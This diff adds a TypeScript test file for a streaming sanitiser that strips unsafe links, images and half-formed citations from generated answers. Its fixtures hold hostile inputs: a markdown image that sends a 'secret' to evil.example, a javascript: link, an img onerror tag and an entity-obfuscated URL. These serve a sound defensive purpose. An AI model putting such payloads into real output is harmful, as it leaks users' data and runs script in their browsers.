@@ -1,0 +1,105 @@
+import assert from "node:assert/strict";
+import test from "node:test";
+import fc from "fast-check";
+import { AnswerStream } from "./answer-stream.ts";
+import { addressesIn, harmlessLinks } from "./answer-links.ts";
+import { citationsOf } from "./scan.ts";
+
+const ANSWERS = [
+  'It is 8080 [M1 "listens on port 8080"; "by default"], not 80 [M2: “said [sic] by Ann”, M12]. Next [M3 "x',
+  "Look: ![pixel](https://evil.example/p?d=secret) and [here](javascript:alert(1)) <img src=x onerror=y> www.evil.com/x [a][b]\n[b]: https://evil.example/z\n",
+  'a < b and c > d, Array<string>, [1] [M] [M1 [M1 "a"]] ]( <a\nhref> 😀 料理 [M1 「日本の料理」]',
+];
+
+test("every split of an answer gives the same pieces", () => {
+  const whole = (answer: string): string => {
+    const stream = new AnswerStream();
+    return stream.push(answer) + stream.end();
+  };
+  const piece = fc.oneof(
+    fc.constantFrom(
+      "[",
+      "]",
+      "M1",
+      '"',
+      " ",
+      "(",
+      ")",
+      "<",
+      ">",
+      "!",
+      "https://evil.example/?q=",
+      "\n",
+      "![x](",
+      "<img ",
+      '[M2 "stands here"]',
+      "www.",
+      "evil.com/a",
+      "😀",
+    ),
+    fc.string({ maxLength: 6 }),
+  );
+  fc.assert(
+    fc.property(
+      fc.oneof(
+        fc.constantFrom(...ANSWERS),
+        fc.array(piece, { maxLength: 25 }).map((parts) => parts.join("")),
+      ),
+      fc.array(fc.nat(400), { maxLength: 12 }),
+      (answer, cuts) => {
+        const stream = new AnswerStream();
+        const at = [...new Set(cuts.map((cut) => Math.min(cut, answer.length)))].sort((a, b) => a - b);
+        let shown = "";
+        let from = 0;
+        for (const to of [...at, answer.length]) {
+          shown += stream.push(answer.slice(from, to));
+          from = to;
+        }
+        assert.equal(shown + stream.end(), whole(answer));
+      },
+    ),
+    { numRuns: 2_000 },
+  );
+});
+
+test("no prefix of a stream shows half a citation, an image or an address that works", () => {
+  for (const answer of ANSWERS) {
+    const stream = new AnswerStream();
+    let shown = "";
+    for (const character of answer) {
+      shown += stream.push(character);
+      const tail = shown.slice(shown.lastIndexOf("["));
+      if (/^\[M\d/.test(tail)) assert.ok(tail.includes("]"), tail);
+      assert.doesNotMatch(shown, /!\[|https?:\/\/|javascript:|<img|\bwww\./i);
+    }
+  }
+});
+
+test("only an address that a cited passage holds whole stays a link", () => {
+  const allowed = addressesIn("See https://docs.example/guide, or mirror.example/guide?x=1.");
+  assert.equal(
+    harmlessLinks("[guide](https://docs.example/guide) https://docs.example/guide.", allowed),
+    "[guide](https://docs.example/guide) https://docs.example/guide.",
+  );
+  assert.equal(harmlessLinks("https://docs.example/guide?leak=1", allowed), "https[:]//docs.example/guide?leak=1");
+  assert.equal(harmlessLinks("https://docs.example/gui", allowed), "https[:]//docs.example/gui");
+  assert.equal(harmlessLinks("![a](https://docs.example/guide)", allowed), "(image left out: a)");
+  assert.equal(
+    harmlessLinks("evil.com/?q=key and config.toml and a/b.ts", allowed),
+    "evil[.]com/?q=key and config.toml and a/b.ts",
+  );
+  assert.equal(harmlessLinks("[x](&#104;ttps&#58;//evil.example)", allowed), "x (link left out)");
+});
+
+test("citations are read with several quotes, labels and kinds of quotation marks", () => {
+  const quotes = (answer: string): readonly unknown[] =>
+    citationsOf(answer).flatMap(({ quotes }) => quotes.map(({ label, quote }) => [label, quote]));
+  assert.deepEqual(quotes(ANSWERS[0] as string), [
+    ["M1", "listens on port 8080"],
+    ["M1", "by default"],
+    ["M2", "said [sic] by Ann"],
+    ["M12", null],
+  ]);
+  assert.deepEqual(quotes('[M1 "he said "no" to that"]'), [["M1", 'he said "no" to that']]);
+  assert.deepEqual(quotes("[Monday] [M] [1] [m3]"), [["M3", null]]);
+});
